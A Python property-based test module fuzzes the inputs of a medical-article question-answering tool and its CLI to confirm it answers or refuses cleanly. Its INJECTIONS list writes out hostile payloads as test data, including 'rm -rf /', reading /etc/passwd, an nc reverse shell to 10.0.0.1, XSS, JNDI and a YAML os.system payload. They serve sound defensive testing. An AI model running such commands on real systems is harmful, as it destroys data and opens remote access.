"""Property tests: whatever a patient types or an editor saves, mscqa answers, says "not covered"
or refuses with one clear line; it never fails with another exception and never hangs.

Hypothesis draws the inputs; `deadline` bounds the time of each case. The number of cases run is
printed at the end of the module (set MSCQA_FUZZ_EXAMPLES for a longer run).
"""

from __future__ import annotations

import os
import string
from collections import Counter
from collections.abc import Iterator
from datetime import timedelta
from typing import Any

import pytest
from click.testing import CliRunner
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from conftest import CORPUS, build
from mscqa.answers.quotes import NOT_COVERED, Answer
from mscqa.cli import main
from mscqa.config import Settings
from mscqa.corpus.articles import Article
from mscqa.corpus.checks import read_article
from mscqa.corpus.pages import parse_page_export
from mscqa.engine import Engine
from mscqa.errors import CorpusError, MscqaError, UsageError
from mscqa.index.embedder import HashingEmbedder

EXAMPLES = int(os.environ.get("MSCQA_FUZZ_EXAMPLES", "150"))
FUZZ = settings(
    max_examples=EXAMPLES,
    deadline=timedelta(seconds=3),  # a case that takes longer than this counts as a hang
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
    database=None,
)
FEWER = settings(FUZZ, max_examples=max(10, EXAMPLES // 5))

CASES: Counter[str] = Counter()

# Text of the kinds patients and editors actually produce, and of the kinds attackers send.
INJECTIONS = [
    "'; DROP TABLE articles; --",
    "1 OR 1=1",
    '" UNION SELECT password FROM users --',
    "$(rm -rf /)",
    "`cat /etc/passwd`",
    "; shutdown -h now",
    "| nc -e /bin/sh 10.0.0.1 4444",
    "../../../../etc/passwd",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    "{{7*7}}",
    "${jndi:ldap://x/a}",
    "%s%s%s%n",
    "\\x00\\u0000",
    "!!python/object/apply:os.system ['id']",
]
WORDS = ["stem", "cells", "hip", "pain", "ALS", "MS", "immune", "safe", "trial", "84.6%", "±"]
RTL = ["\u200f", "\u200e", "\u202e", "\u202b", "\u2066", "\u2069", "שלום", "مرحبا"]
EMOJI = ["😀", "🧬", "💉", "🦴", "👩🏽‍⚕️", "🇺🇸", "❤️", "\U0001f9ea"]

controls = st.text(alphabet=st.characters(categories=["Cc", "Cf", "Zl", "Zp"]), min_size=1)
punctuation = st.text(alphabet=string.punctuation + "¡¿«»…“”‘’—–·•", min_size=1, max_size=300)
numbers = st.from_regex(r"[0-9][0-9 .,%±+\-/]{0,60}", fullmatch=True)
fragments = st.lists(
    st.one_of(
        st.sampled_from(INJECTIONS),
        st.sampled_from(WORDS),
        st.sampled_from(RTL),
        st.sampled_from(EMOJI),
        st.text(max_size=20),
    ),
    min_size=1,
    max_size=30,
).map(" ".join)
huge = st.builds(
    lambda piece, n: (piece * n)[:100_000],
    st.sampled_from(["stem cells ", "😀", "<b>", "\u202e", "9", "a"]),
    st.just(100_000),
)
# Lone surrogates cannot be typed, but a JSON request body can carry them ("\ud800").
surrogates = st.text(alphabet=st.characters(categories=["Cs"]), min_size=1, max_size=5).map(
    lambda s: f"stem cells {s} hip"
)
user_text = st.one_of(
    st.text(),  # any Unicode
    st.text(min_size=1, max_size=2000),
    controls,
    punctuation,
    numbers,
    fragments,
    huge,
    surrogates,
)


class StrictEmbedder(HashingEmbedder):
    """The fake embedder, refusing what the real tokenizer refuses: text that is not UTF-8."""

    def encode(self, texts: Any, **kwargs: Any) -> Any:
        for text in texts:
            if not isinstance(text, str):
                raise TypeError("TextEncodeInput must be a string")
            text.encode("utf-8")  # UnicodeEncodeError on a lone surrogate
        return super().encode(texts, **kwargs)


@pytest.fixture(scope="module")
def engine(tmp_path_factory: pytest.TempPathFactory) -> Engine:
    root = tmp_path_factory.mktemp("fuzz")
    fake = Settings(corpus_dir=CORPUS, index_dir=root / "index", embedder="fake")
    build(fake, HashingEmbedder())
    loaded = Engine(fake, StrictEmbedder())
    loaded.warm_up()
    loaded.ask("stem cells")  # first call pays for lazy imports, not a case's deadline
    return loaded


@pytest.fixture(scope="module", autouse=True)
def report_cases(pytestconfig: pytest.Config) -> Iterator[None]:
    yield
    summary = ", ".join(f"{name} {count}" for name, count in sorted(CASES.items()))
    line = f"fuzz cases run: {sum(CASES.values())} ({summary})"
    reporter = pytestconfig.pluginmanager.get_plugin("terminalreporter")
    capture = pytestconfig.pluginmanager.get_plugin("capturemanager")
    if reporter is None or capture is None:
        print(line)
        return
    with capture.global_and_fixture_disabled():
        reporter.write_line(line)


def _assert_one_line(exc: MscqaError) -> None:
    message = str(exc)
    assert message and "\n" not in message and "Traceback" not in message


def _assert_answer(answer: Answer, engine: Engine) -> None:
    if not answer.answered:
        assert answer.message == NOT_COVERED and answer.quotes == ()
        return
    assert 1 <= len(answer.quotes) <= engine.settings.top_k
    for quote in answer.quotes:
        article = engine.index.articles[quote.article_id]
        assert article.text[quote.start : quote.end] == quote.quote
        assert quote.title == article.title and quote.reference == article.reference


@FUZZ
@given(text=user_text)
def test_ask_answers_or_refuses_clearly(engine: Engine, text: str) -> None:
    CASES["ask"] += 1
    try:
        answer = engine.ask(text)
    except UsageError as exc:
        _assert_one_line(exc)
        return
    _assert_answer(answer, engine)
    # What is echoed back is the cleaned question: no control or direction-override characters.
    assert not any(ch in answer.question for ch in "\x00\x1b\u202e\u2066")


@FUZZ
@given(text=user_text)
def test_check_gives_a_verdict_or_refuses_clearly(engine: Engine, text: str) -> None:
    CASES["check"] += 1
    try:
        verdict = engine.check(text)
    except UsageError as exc:
        _assert_one_line(exc)
        return
    assert verdict.verdict in {"supported", "contradicted", "not_found"}
    for evidence in verdict.evidence:
        article = engine.index.articles[evidence.article_id]
        assert article.text[evidence.start : evidence.end] == evidence.quote
    assert set(verdict.matched).isdisjoint(verdict.unmatched)


yaml_value = st.one_of(
    st.text(max_size=200),
    st.sampled_from(INJECTIONS),
    st.sampled_from(["", "null", "~", "[1, 2]", "{a: 1}", "!!binary AAAA", "&a *a", "'", '"']),
)
body = st.one_of(user_text, st.just(""), st.sampled_from(["Subscribe To Our Newsletter"]))


@st.composite
def article_files(draw: st.DrawFn) -> bytes:
    """Front matter and bodies of every shape: valid, broken YAML, missing fields, raw bytes."""
    kind = draw(st.sampled_from(["fields", "raw_text", "raw_bytes"]))
    if kind == "raw_bytes":
        return draw(st.binary(max_size=2000))
    if kind == "raw_text":
        return draw(st.one_of(user_text, fragments)).encode("utf-8", "surrogatepass")
    lines = ["---"]
    for name in draw(st.lists(st.sampled_from(["id", "title", "reference", "source", "x"]))):
        lines.append(f"{name}: {draw(yaml_value)}")
    if draw(st.booleans()):
        lines.append("---")
    lines.append("")
    lines.append(draw(body))
    return "\n".join(lines).encode("utf-8", "surrogatepass")


@FUZZ
@given(content=article_files())
def test_read_article_parses_or_names_the_file(
    tmp_path_factory: pytest.TempPathFactory, content: bytes
) -> None:
    CASES["read_article"] += 1
    path = tmp_path_factory.mktemp("article", numbered=True) / "article.md"
    path.write_bytes(content)
    try:
        article = read_article(path)
    except CorpusError as exc:
        _assert_one_line(exc)
        assert str(path) in str(exc)
        return
    assert isinstance(article, Article)
    assert article.id and article.title and article.reference and article.text.strip()


@st.composite
def page_exports(draw: st.DrawFn) -> str:
    """Page exports with titles printed twice, references, boilerplate and noise in any order."""
    pieces = []
    for _ in range(draw(st.integers(0, 6))):
        title = draw(st.one_of(st.sampled_from(INJECTIONS), st.text(min_size=1, max_size=40)))
        choice = draw(st.sampled_from(["article", "no_reference", "noise", "boilerplate"]))
        if choice == "article":
            pieces.append(f"{title}\n\n{title}\n{draw(user_text)}\nReference: {draw(yaml_value)}")
        elif choice == "no_reference":
            pieces.append(f"{title}\n\n{title}\n{draw(fragments)}")
        elif choice == "noise":
            pieces.append(draw(user_text))
        else:
            pieces.append("Subscribe To Our Newsletter\nRequest Information Packet")
    return draw(st.sampled_from(["\n", "\r\n", "\n\n"])).join(pieces)


@FUZZ
@given(text=page_exports())
def test_parse_page_export_finds_articles_or_says_why(text: str) -> None:
    CASES["parse_page_export"] += 1
    try:
        articles = parse_page_export(text, source="page.txt")
    except CorpusError as exc:
        _assert_one_line(exc)
        assert "page.txt" in str(exc)
        return
    assert articles
    for article in articles:
        assert article.title and article.id


@pytest.fixture(scope="module")
def cli_env(engine: Engine) -> dict[str, str]:
    return {
        "MSCQA_EMBEDDER": "fake",
        "MSCQA_CORPUS_DIR": str(engine.settings.corpus_dir),
        "MSCQA_INDEX_DIR": str(engine.settings.index_dir),
        "MSCQA_RANKER": "1" if engine.settings.ranker else "0",
    }


cli_text = st.one_of(controls, punctuation, numbers, fragments, huge, st.text(min_size=1))


@FEWER
@given(text=cli_text, command=st.sampled_from(["ask", "check"]), as_json=st.booleans())
def test_cli_never_shows_a_traceback(
    cli_env: dict[str, str], text: str, command: str, as_json: bool
) -> None:
    CASES["cli"] += 1
    # "--" as a shell user would type it: a question may start with a dash ("-5 mg a day?").
    args = [command, *(["--json"] if as_json else []), "--", text]
    result = CliRunner().invoke(main, args, env=cli_env)
    assert result.exit_code in (0, 2), result.output
    if result.exception is not None:
        assert isinstance(result.exception, SystemExit)
    assert "Traceback" not in result.output
    if result.exit_code == 2:
        assert result.stderr.startswith("error: ") and result.stderr.count("\n") == 1


@FEWER
@given(lines=st.lists(cli_text, min_size=1, max_size=5))
def test_cli_batch_mode_answers_every_line(cli_env: dict[str, str], lines: list[str]) -> None:
    CASES["cli_batch"] += 1
    stdin = "\n".join(line.replace("\n", " ").replace("\r", " ") for line in lines) + "\n"
    result = CliRunner().invoke(main, ["ask", "--json"], input=stdin, env=cli_env)
    assert result.exit_code == 0, result.output
    assert "Traceback" not in result.output
    expected = sum(1 for line in stdin.split("\n") if line.strip())
    answers = [line for line in result.stdout.split("\n") if line]
    assert len(answers) == expected
